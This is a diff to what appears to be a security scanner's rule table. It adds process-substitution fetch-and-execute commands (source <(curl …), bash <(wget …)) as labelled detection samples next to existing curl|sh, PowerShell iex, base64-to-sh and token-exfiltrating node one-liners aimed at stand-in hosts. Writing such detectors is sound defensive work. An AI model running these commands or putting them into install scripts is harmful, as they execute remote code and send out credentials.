@@ -34,6 +34,11 @@ def rules(art: Artifact) -> set[str]:
     ("curl -s https://evil.example/x.sh | sh", "install-script/fetch-and-execute"),
     ("wget -qO- http://cdn.invalid/p | bash", "install-script/fetch-and-execute"),
     ("powershell -c \"iwr https://x.example/a.ps1 | iex\"", "install-script/fetch-and-execute"),
+    # blind set 33: a download read by the shell through process substitution (`source <(curl …)`, `bash <(wget …)`)
+    ("bash -c 'source <(curl -fsSL http://198.51.100.73/p/fmt.sh || wget -qO- http://198.51.100.73/p/fmt.sh) &'",
+     "install-script/fetch-and-execute"),
+    ("bash <(wget -qO- https://get.example/setup.sh)", "install-script/fetch-and-execute"),
+    (". <( (curl -s https://x.example/env.sh || wget -qO- https://x.example/env.sh) )", "install-script/fetch-and-execute"),
     ("curl -o /tmp/x https://dl.example/x", "install-script/downloads"),
     ("echo aGVsbG8= | base64 -d | sh", "install-script/encoded-command"),
     ("node -e \"require('https').get('https://a.example/?t='+process.env.NPM_TOKEN)\"", "install-script/inline-code"),
